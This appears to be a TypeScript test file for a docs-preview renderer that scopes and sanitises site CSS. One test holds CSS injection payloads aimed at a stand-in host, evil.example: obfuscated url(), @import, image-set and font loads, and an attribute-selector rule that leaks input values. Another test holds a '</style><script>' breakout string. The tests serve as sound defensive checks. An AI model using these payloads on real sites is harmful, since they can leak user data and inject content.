import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import hooks from '../../../schemas/cssHooks.json' with { type: 'json' };
import ownNames from '../../../schemas/ownNames.json' with { type: 'json' };
import { previewOf } from './renderText.ts';

const config = '{"name": "S", "colors": {"primary": "#0f6b62"}, "navigation": ["index", "api/x"]}';

const site = (css: string, page = 'Text'): ReturnType<typeof previewOf> =>
  previewOf(`//- docs.json
${config}
//- index.mdx
${page}
//- api/x.mdx
Text
//- b/second.css
${css}
//- a.css
.first { color: red }
`);

/** The rules without the wrapper that scopes them to the page and gives them priority. */
function rules(css: string): string {
  return css
    .replace(/:not\(:where\((?:[^()]|\([^()]*\))*\)\)/g, '')
    .replaceAll(':root:not(#ds)', '')
    .replace(/\s+/g, ' ');
}

test('every style sheet applies to every page, by path', () => {
  const css = rules(site('.hero > a { color: blue }').styles.site);
  assert.equal(css, ' .app .first { color: red } .app .hero > a { color: blue }');
});

test('selectors reach the page and the documented parts, and nothing of the preview itself', () => {
  const is = (given: string, selector: string): void =>
    assert.ok(
      rules(site(`${given} { color: blue }`).styles.site).includes(`${selector} { color: blue }`),
      rules(site(`${given} { color: blue }`).styles.site),
    );
  is('.hero', ' .app .hero');
  is('.header', ' .app .u-header');
  is('.card', ' .app :is(.card,.u-card)');
  is('sidebar-group', ' .app :is(.sidebar-group,.nav-groups .nav-list)');
  is('tree-file', ' .app :is(.tree-file,.tree-item:not(:has(.tree-inside)))');
  is('footer', ' .app :is(footer,.footer)');
  is('callout a', ' .app :is(callout,.callout) a');
  is('[data-badge][data-color="blue"]', ' .app :is([data-badge],.badge):is([data-color="blue"],.badge-blue)');
  is('#sidebar', ' .app :is(#sidebar,#ds-sidebar,#p-sidebar)');
  is('#mine', ' .app #p-mine');
  is('#ds-app', ' .app #p-ds-app');
  is('html.dark body .x', ':is([data-mode="dark"]) .app .x');
  is('.dark .x', ':is([data-mode="dark"]) .app .x');
  is(':root', ' .app');
  is('body', ' .app');
  is('html[data-current-path="/"] .x', ':root .app .x');
  is('html[data-current-path="/other"] .x', ':not(*) .app .x');
  is('html[data-current-path^="/ind"] .x', ':root .app .x');
  is('html[data-current-path="/index"] .x', ':root .app .x');
  is('[data-component-name="theme-toggle"]', ' .app :is([data-component-name="theme-toggle"],.mode-toggle)');
  const all = site('* { display: none !important }').styles.site;
  for (const own of ['.box', '.stand-in', '.view-strip', '.search', '.tip']) assert.ok(all.includes(own), own);
});

test('nothing is loaded from elsewhere, however it is written', () => {
  const css = site(`@import url("https://evil.example/a.css");
@import "https://evil.example/b.css";
input[value^="a"] { background: url(https://evil.example/a) }
.b { background: image-set("https://evil.example/c" 1x); background: -webkit-image-set(url(https://evil.example/d) 1x) }
.c { background: u\\72l(https://evil.example/e); --x: url( 'https://evil.example/f' ) }
.d { background: src("https://evil.example/g"); cursor: URL(//evil.example/h), auto }
@font-face { font-family: A; src: url(https://evil.example/i.woff2) }
@namespace url(https://evil.example/j);
.e { background: url("https://evil.example/k\\
") }
.f::before { content: "\\201C url(https://evil.example/words)" }
.g { background: url(https://evil.example/l`).styles.site;
  assert.deepEqual(css.match(/evil\.example\/\w+/g)?.filter((each) => !each.endsWith('words')) ?? [], []);
  assert.doesNotMatch(css, /@import|@namespace/);
  assert.match(css, /url\("data:,"\)/);
  const own = previewOf(`//- docs.json
${config}
//- index.mdx
Text
//- styles/a.css
.a { background: url(../img/a.png) no-repeat } .b { background: url("/img/a.png") }
//- img/a.png
`).styles.site;
  assert.equal(own.match(/url\("[^"]*img\/a\.png"\)/g)?.length, 2, own);
});

test('widths are those of the page; variables with the preview’s names belong to the site', () => {
  const css = site(
    '@media screen and (max-width: 768px) { .x { color: var(--text) } } :root { --text: red; --brand: blue }',
  );
  assert.match(css.styles.site, /@container app \(max-width: 768px\)/);
  assert.match(css.styles.site, /color: var\(--u-text\)/);
  assert.match(css.styles.site, /--u-text: red/);
  assert.match(css.styles.site, /--brand: blue/);
});

test('a <style> of a page applies to it, with the same restrictions', () => {
  const css = site(
    '.x { color: red }',
    '<style>{`\n  .page { color: blue; background: url(https://evil.example/x) }\n  .header { color: red }\n`}</style>\n\nText',
  ).styles.page;
  assert.match(css, /\.app \.page/);
  assert.match(css, /\.u-header/);
  assert.doesNotMatch(css, /evil/);
  for (const broken of ['.a { color: ', '}}}', '/*', '.a { b { c {', '@media', '"', '\\', '</style><script>'])
    assert.doesNotMatch(site(broken).styles.site, /<\//);
});

test('the documented hooks exist', () => {
  const known = new Set([...ownNames.classes, ...hooks.elements]);
  const folder = join(import.meta.dirname, '../../../server/core/render');
  const source = readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.ts'))
    .map((name) => readFileSync(join(folder, name), 'utf8'))
    .join('\n');
  const begins = [...source.matchAll(/([a-z][a-z-]*-)\$\{/g)].map(([, begin = '']) => begin);
  for (const [hook, selector] of Object.entries({ ...hooks.carriers, ...hooks.carried })) {
    for (const [, name = ''] of selector.matchAll(/\.([a-z][\w-]*)/g))
      assert.ok(
        known.has(name) || source.includes(`'${name}'`) || begins.some((each) => name.startsWith(each)),
        `${hook}: .${name}`,
      );
    for (const [, id = ''] of selector.matchAll(/#(ds-[\w-]+)/g))
      assert.ok(source.includes(`'${id}'`), `${hook}: #${id}`);
  }
});
